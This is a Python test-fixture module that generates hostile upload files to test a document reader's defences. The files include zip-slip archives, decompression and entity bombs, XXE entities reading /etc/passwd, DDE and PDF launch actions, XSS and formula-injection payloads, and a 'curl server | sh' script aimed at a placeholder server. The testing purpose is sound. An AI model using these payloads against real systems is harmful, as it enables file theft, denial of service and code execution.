"""Files made to harm, by the name under which they are uploaded. All places and figures are invented.

`token` marks what would be written outside the store, `server` is an address nobody may ask: the test watches both.
"""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.unit.readers.making import SENTENCE as PLAIN
from tests.unit.readers.making import W, docx, ofd, pdf, zipped
from tests.unit.readers.making import p as paragraph


TITLE = "甲市乙区人民政府2024年度法治政府建设年度报告"
SENTENCE = f"{TITLE}\n{PLAIN * 8}"
"""Otherwise a good report, so that what can be read of a file goes all the way."""
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY x0 "哈">' + "".join(f'<!ENTITY x{i} "{f"&x{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
)
PROSE = f"<p>{SENTENCE}</p>"


def hostile_files(*, token: str, server: str) -> dict[str, bytes]:
    """Every file by its name; no two are the same bytes."""
    found: dict[str, bytes] = {}
    for kind in (archives, office, sheets_and_ofd, portable, web_pages, texts, pictures, disguised):
        for name, data in kind(token, server):
            assert name not in found, name
            found[name] = data
    return found


def p(text: str) -> str:
    """The title and a paragraph of a Word document."""
    return paragraph(TITLE) + paragraph(text)


def packed(members: dict[str, bytes], *, symlink: str = "", compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP as its author wished it, unclean names kept."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        if symlink:
            link = zipfile.ZipInfo("链接.txt")
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, symlink)
    return out.getvalue()


def lying(data: bytes) -> bytes:
    """The ZIP with every size in its directory set to 10 bytes."""
    changed, at = bytearray(data), data.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 24 : at + 28] = struct.pack("<I", 10)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def locked(data: bytes) -> bytes:
    """The ZIP with its members marked as encrypted."""
    changed = bytearray(data)
    for marker, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(marker)
        while at >= 0:
            changed[at + offset] |= 1
            at = data.find(marker, at + 4)
    return bytes(changed)


def archives(token: str, server: str) -> Iterator[tuple[str, bytes]]:
    """ZIPs of documents."""
    text = SENTENCE.encode()
    yield "上级目录.zip", packed({f"../../../../../../tmp/{token}-up.txt": text + b"1"})
    yield "绝对路径.zip", packed({f"/tmp/{token}-absolute.txt": text + b"2"})
    yield "反斜线.zip", packed({f"..\\..\\..\\tmp\\{token}-back.txt": text + b"3"})
    yield "符号链接.zip", packed({}, symlink="/etc/passwd")
    yield "压缩炸弹.zip", packed({"零.txt": bytes(60_000_000)})
    inner = packed({"里.txt": bytes(9_000_000)})
    for depth in range(5):
        inner = packed({f"第{depth}层-{number}.zip": inner + bytes([number]) for number in range(8)})
    yield "层层炸弹.zip", inner
    yield "一万个文件.zip", packed({f"{number}.txt": b"" for number in range(10_000)})
    yield "虚报大小.zip", lying(packed({"大.txt": text * 9_000}))
    yield "加密.zip", locked(packed({"甲.txt": text + b"4"}))
    yield "怪名.zip", packed({"报\x01告\u202etxt.exe\r\n" + "长" * 280 + ".txt": text + b"5", "\x1b[31m.txt": b"\x00"})
    yield "只有目录.zip", packed({"甲/": b"", "甲/乙/": b""})


def relations(*targets: tuple[str, str]) -> str:
    """A relationship part that points to outer things."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    inner = "".join(
        f'<Relationship Id="r{number}" Type="{kind}{what}" Target="{target}" TargetMode="External"/>'
        for number, (what, target) in enumerate(targets)
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'
    )


def office(token: str, server: str) -> Iterator[tuple[str, bytes]]:
    """Word documents, Rich Text, OLE containers."""
    types = {"[Content_Types].xml": "<a/>"}
    yield "实体炸弹.docx", zipped({**types, "word/document.xml": f"{LAUGHS}<a>&x9;</a>"})
    for name, target in (("本机文件", "file:///etc/passwd"), ("网络", f"{server}/entity")):
        entity = f'<!DOCTYPE a [<!ENTITY s SYSTEM "{target}">]><a>&s;</a>'
        yield f"外部实体-{name}.docx", zipped({**types, "word/document.xml": entity})
    outer = f'<!DOCTYPE a SYSTEM "{server}/dtd"><w:document {W}><w:body>{p(SENTENCE)}</w:body></w:document>'
    yield "外部DTD.docx", zipped({**types, "word/document.xml": outer})
    yield (
        "远程模板.docx",
        docx(p(SENTENCE + "一"), {"word/_rels/settings.xml.rels": relations(("attachedTemplate", f"{server}/t.dotm"))}),
    )
    yield (
        "远程图片.docx",
        docx(
            p(SENTENCE + "二"),
            {
                "word/_rels/document.xml.rels": relations(
                    ("image", f"{server}/i.png"), ("oleObject", "file:///etc/passwd")
                )
            },
        ),
    )
    yield "宏.docm", docx(p(SENTENCE + "三"), {"word/vbaProject.bin": b"Auto_Open Shell"})
    yield "宏改名.docx", docx(p(SENTENCE + "四"), {"word/vbaProject.bin": b"Document_Open Shell"})
    yield (
        "动态交换.docx",
        docx("<w:p><w:r><w:instrText>DDEAUTO cmd.exe /k calc</w:instrText></w:r></w:p>" + p(SENTENCE + "五")),
    )
    yield "嵌套表格.docx", docx("<w:tbl><w:tr><w:tc>" * 3_000 + p(SENTENCE) + "</w:tc></w:tr></w:tbl>" * 3_000)
    yield "深层标记.docx", docx("<w:sdt>" * 50_000 + "</w:sdt>" * 50_000)
    yield "巨大正文.docx", zipped({**types, "word/document.xml": b" " * 150_000_000})
    yield (
        "横跨十亿列.docx",
        docx(
            f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>{p("甲")}</w:tc></w:tr></w:tbl>{p(SENTENCE)}'
        ),
    )
    yield "六千个部件.docx", zipped({**types, "word/document.xml": "", **{f"word/m/{n}": "" for n in range(6_000)}})
    yield "目录外部件.docx", docx(p(SENTENCE + "六"), {f"../../../../tmp/{token}-part.xml": "<a/>"})
    yield "百万括号.rtf", b"{\\rtf1" + b"{" * 1_000_000
    yield (
        "对象.rtf",
        b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}" + b"{\\*\\template http://x}" * 9 + b"}",
    )
    yield "噪声.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 40


def workbook(sheet: str, extra: dict[str, str] | None = None) -> bytes:
    """A workbook of one sheet."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{kind}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{kind}"><sheets><sheet name="a" sheetId="1" '
            'r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{kind}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{sheet}</sheetData></worksheet>',
            **(extra or {}),
        }
    )


def sheets_and_ofd(token: str, server: str) -> Iterator[tuple[str, bytes]]:
    """Workbooks, tables and OFD."""
    yield "最远单元格.xlsx", workbook('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>远</t></is></c></row>')
    yield "实体炸弹.xlsx", workbook("", {"xl/sharedStrings.xml": f"{LAUGHS}<sst><si><t>&x9;</t></si></sst>"})
    yield (
        "公式.xlsx",
        workbook(f'<row r="1"><c r="A1" t="str"><f>WEBSERVICE("{server}/f")</f><v>{SENTENCE}</v></c></row>'),
    )
    yield "公式.csv", f'指标,数值\n"=HYPERLINK(""{server}"")",1\n+1,2\n-1,3\n@SUM(1),{SENTENCE}\n'.encode()
    entity = '<!DOCTYPE a [<!ENTITY s SYSTEM "file:///etc/passwd">]><a>&s;</a>'
    yield "外部实体.ofd", ofd([[(20, 20, "文")]], {"OFD.xml": entity})
    escaping = "<OFD><DocBody><DocRoot>../../../../etc/passwd</DocRoot></DocBody></OFD>"
    yield "指向包外.ofd", ofd([], {"OFD.xml": escaping})
    glyphs = (
        '<P><TextObject Boundary="0 0 9 9" Size="5"><TextCode X="0" Y="0" DeltaX="g 1000000000 1"> </TextCode>'
        "</TextObject></P>"
    )
    root = '<D><Pages><Page ID="1" BaseLoc="p.xml"/></Pages></D>'
    yield "重复十亿字.ofd", ofd([], {"Doc_0/Document.xml": root, "Doc_0/p.xml": glyphs})


def raw_pdf(*objects: str | bytes) -> bytes:
    """A PDF of these objects, the first the catalogue, without a cross-reference table."""
    body = b"".join(
        b"%d 0 obj\n%b\nendobj\n" % (number, content if isinstance(content, bytes) else content.encode())
        for number, content in enumerate(objects, 1)
    )
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R /Size %d>>\n%%%%EOF" % (len(objects) + 1)


def portable(token: str, server: str) -> Iterator[tuple[str, bytes]]:
    """PDF."""
    page = "<</Type/Pages/Count 1/Kids[3 0 R]>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    script = "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"
    launch = f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>/AA<</WC<</S/URI/URI({server}/u)>>>>>>"
    yield "脚本.pdf", raw_pdf(script, *page)
    yield "启动程序.pdf", raw_pdf(launch, *page)
    yield "一万页.pdf", pdf([[]] * 10_000)
    yield "自称二十亿页.pdf", raw_pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 2000000000/Kids[]>>")
    yield "页面成环.pdf", raw_pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 3/Kids[2 0 R 2 0 R]>>")
    yield "有密码.pdf", pdf([[(80, 90, "文")]], password="x")
    whole = pdf([[(80, 90, SENTENCE)]])
    yield "截断.pdf", whole[: len(whole) // 2]
    yield "交叉表损坏.pdf", whole.replace(b"startxref", b"startxrex").replace(b" 00000 n", b" 99999 n")
    yield "噪声.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 400
    stream = zlib.compress(b" " * 400_000_000, 9)
    yield (
        "流炸弹.pdf",
        raw_pdf(
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Count 1/Kids[3 0 R]>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
            b"<</Length %d/Filter/FlateDecode>>stream\n%b\nendstream" % (len(stream), stream),
        ),
    )
    yield (
        "巨幅页面.pdf",
        raw_pdf(
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Count 1/Kids[3 0 R]>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 2000000000 2000000000]>>",
        ),
    )


def web_pages(token: str, server: str) -> Iterator[tuple[str, bytes]]:
    """HTML, MHTML, SVG."""

    def page(body: str) -> bytes:
        return f"<!doctype html><html><head><title>x</title></head><body><h1>{TITLE}</h1>{body}</body></html>".encode()

    yield "脚本.html", page(f"<script>fetch('{server}/s')</script><p onclick=alert(1)>{SENTENCE}</p>" + PROSE)
    yield "外部资源.html", page(
        f"<base href='{server}/'><meta http-equiv=refresh content='0;url={server}'><link rel=stylesheet href='{server}/c'>"
        f"<iframe src='{server}/f'></iframe><img src='{server}/i' onerror=alert(1)><object data='file:///etc/passwd'>"
        f"</object><a href='javascript:alert(1)'>点</a>{PROSE}{PROSE}"
    )  # fmt: skip
    yield "十万层.html", page("<div>" * 100_000 + SENTENCE)
    yield "嵌套表格.html", page("<table><tr><td>" * 3_000 + SENTENCE)
    yield "跨行炸弹.html", page(f"<table><tr>{'<td rowspan=99999 colspan=99999>甲</td>' * 400}</tr></table>{PROSE}")
    yield "伪装标签.html", page(f"<p>&lt;script&gt;alert(1)&lt;/script&gt;{SENTENCE}</p><svg onload=alert(1)></svg>")
    yield (
        "脚本.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{server}\')"><text>文</text></svg>'.encode(),
    )
    boundary = f"Content-Type: multipart/related; boundary=x\n\n--x\nContent-Location: {server}\n\n".encode()
    yield "断头.mht", boundary * 200


def texts(token: str, server: str) -> Iterator[tuple[str, bytes]]:
    """Plain text, and names that harm."""
    yield "空.txt", b""
    yield "只有标记.txt", b"\xef\xbb\xbf"
    yield "只有标记16.txt", b"\xff\xfe"
    yield "孤立代理.txt", b"\xff\xfe" + b"\x00\xd8" * 200 + SENTENCE.encode("utf-16-le") + b"\x00\xdc" * 9
    yield "全是零.txt", bytes(4_096)
    yield "夹零.txt", (SENTENCE + "\x00" + SENTENCE).encode()
    yield "反转方向.txt", f"\u202e{SENTENCE}\u202c\x07\x1b[2J\u200b".encode()
    yield "一行.txt", (SENTENCE * 30_000).encode()
    yield "无尽数字.txt", ("1" * 200_000 + "件。").encode()
    yield "括号.txt", ("（" * 200_000 + SENTENCE).encode()
    yield "脚本标签.txt", f"<script>alert(document.cookie)</script>{SENTENCE}".encode()
    yield "长" * 300 + ".txt", f"{SENTENCE}长名".encode()
    yield "报告\u202efdp.txt", f"{SENTENCE}反转名".encode()
    yield "=cmd|'calc'!A1.txt", f"{SENTENCE}公式名".encode()
    yield '<img src=x onerror=alert(1)>".txt', f"{SENTENCE}标签名".encode()
    yield "换\r\nSet-Cookie x=1.txt", f"{SENTENCE}换行名".encode()


def pictures(token: str, server: str) -> Iterator[tuple[str, bytes]]:
    """Scans that unpack to more than there is."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    def png(width: int, height: int, data: bytes) -> bytes:
        header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
        return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")

    yield "自称六万乘六万.png", png(60_000, 60_000, b"")
    yield "真正的图炸弹.png", png(30_000, 30_000, zlib.compress(bytes((30_000 // 8 + 1) * 30_000), 9))
    yield "截断.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(40)
    yield "怪.tif", b"II*\x00\x08\x00\x00\x00" + b"\xff" * 400


def disguised(token: str, server: str) -> Iterator[tuple[str, bytes]]:
    """Programs under another name, and files that are two things at once."""
    yield "程序.pdf", b"MZ\x90\x00\x03" + bytes(range(256)) * 8
    yield "程序.docx", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8
    yield "脚本程序.txt", b"#!/bin/sh\ncurl " + server.encode() + b" | sh\n"
    yield "快捷方式.docx", b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(200)
    yield "既是PDF又是ZIP.pdf", b"%PDF-1.7\n" + packed({f"../{token}-polyglot.txt": SENTENCE.encode()})
    yield "既是图又是网页.html", b"GIF89a/*" + f"*/=1;<script>fetch('{server}')</script>{PROSE}".encode()
    yield "既是网页又是PDF.html", f"<html><script>fetch('{server}')</script>{PROSE}".encode() + b"%PDF-1.7\n%%EOF"
    yield "七层.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100)
